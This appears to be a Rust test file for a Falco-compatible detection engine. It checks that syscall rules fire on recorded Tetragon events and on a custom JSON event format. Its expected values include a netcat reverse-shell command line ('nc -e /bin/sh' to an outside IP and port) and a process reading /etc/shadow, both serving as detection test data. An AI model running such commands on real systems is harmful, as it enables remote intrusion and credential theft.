//! Upstream syscall rules (rules-latest/falco_rules.yaml, unchanged) on recorded Tetragon
//! events and on Palisade's JSON syscall format.

use palisade_detect::input::parse;
use palisade_detect::{Engine, RuleSet};
use std::path::Path;
use std::sync::Arc;

fn upstream() -> Engine {
    let p = Path::new(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../../shared/conformance/falco-k8saudit/rules-latest/falco_rules.yaml"
    ));
    let mut set = RuleSet::new();
    set.load("falco_rules.yaml", &std::fs::read_to_string(p).unwrap());
    let e = Engine::from_ruleset(&set);
    assert_eq!(e.compiled.errors(), 0);
    e
}

#[test]
fn upstream_rules_fire_on_tetragon_events() {
    let text = std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../examples/detect/tetragon.jsonl"
    ))
    .unwrap();
    let host: Arc<str> = Arc::from("test");
    let parsed = parse(&text, &host);
    assert!(parsed.errors.is_empty(), "{:?}", parsed.errors);
    assert_eq!(parsed.events.len(), 4);
    let engine = upstream();
    let alerts: Vec<_> = parsed
        .events
        .iter()
        .map(|e| engine.process(e.as_event(), e.time_ns(), e.hostname()))
        .collect();
    let rules: Vec<Option<&str>> = alerts
        .iter()
        .map(|a| a.as_ref().map(|a| a.rule.as_str()))
        .collect();
    assert_eq!(
        rules,
        [
            Some("Netcat Remote Code Execution in Container"),
            Some("Read sensitive file untrusted"),
            None,
            None
        ]
    );
    let nc = alerts[0].as_ref().unwrap().to_json();
    assert_eq!(nc["priority"], "Warning");
    assert_eq!(nc["source"], "syscall");
    assert_eq!(nc["hostname"], "worker-2");
    assert_eq!(nc["time"], "2026-11-20T10:03:57.700326678Z");
    assert_eq!(
        nc["output_fields"]["proc.cmdline"],
        "nc -e /bin/sh 203.0.113.7 4444"
    );
    assert_eq!(nc["output_fields"]["proc.exepath"], "/usr/bin/nc");
    assert_eq!(nc["output_fields"]["user.loginuid"], "-1");
    assert!(nc["output_fields"]["proc.tty"].is_null());
    assert!(
        nc["output"]
            .as_str()
            .unwrap()
            .starts_with("10:03:57.700326678: Warning "),
        "{nc}"
    );
    assert!(nc["tags"]
        .as_array()
        .unwrap()
        .iter()
        .any(|t| t == "container"));
    let shadow = alerts[1].as_ref().unwrap().to_json();
    assert_eq!(shadow["output_fields"]["fd.name"], "/etc/shadow");
    assert_eq!(shadow["output_fields"]["proc.name"], "exfil");
}

#[test]
fn palisade_syscall_format_with_arguments() {
    let rules = r#"
- list: shells
  items: [sh, bash]
- macro: from_webserver
  condition: proc.aname[2] in (nginx, httpd)
- rule: Shell from web server writes below etc
  desc: test
  condition: evt.type = openat and proc.name in (shells) and from_webserver and evt.arg.flags contains O_WRONLY and fd.name pmatch (/etc) and proc.env[HOME] = /root and fd.name glob '/etc/*.conf'
  output: "%proc.name (parent %proc.pname, %proc.aname[2]) wrote %fd.name with %evt.arg.flags"
  priority: error
  tags: [filesystem]
"#;
    let mut set = RuleSet::new();
    set.load("t.yaml", rules);
    let engine = Engine::from_ruleset(&set);
    assert_eq!(engine.compiled.errors(), 0, "{:?}", engine.compiled.diags);
    let ev = r#"{"time":"2026-11-20T10:00:00Z","hostname":"n1","fields":{"evt.type":"openat","proc.name":"sh","proc.pname":"php","proc.aname":["sh","php","nginx","systemd"],"evt.arg":{"flags":"O_WRONLY|O_CREAT"},"fd.name":"/etc/app.conf","proc.env":{"HOME":"/root"}}}
{"time":"2026-11-20T10:00:01Z","fields":{"evt.type":"openat","proc.name":"sh","proc.aname":["sh","php","sshd"],"evt.arg":{"flags":"O_WRONLY"},"fd.name":"/etc/app.conf","proc.env":{"HOME":"/root"}}}
{"time":"2026-11-20T10:00:02Z","fields":"nope"}"#;
    let host: Arc<str> = Arc::from("default-host");
    let parsed = parse(ev, &host);
    assert_eq!(
        parsed.errors,
        vec![(3, "\"fields\" must be an object".to_string())]
    );
    let a: Vec<_> = parsed
        .events
        .iter()
        .filter_map(|e| engine.process(e.as_event(), e.time_ns(), e.hostname()))
        .collect();
    assert_eq!(a.len(), 1);
    assert_eq!(
        a[0].message,
        "sh (parent php, nginx) wrote /etc/app.conf with O_WRONLY|O_CREAT"
    );
    assert_eq!(a[0].hostname, "n1");
}
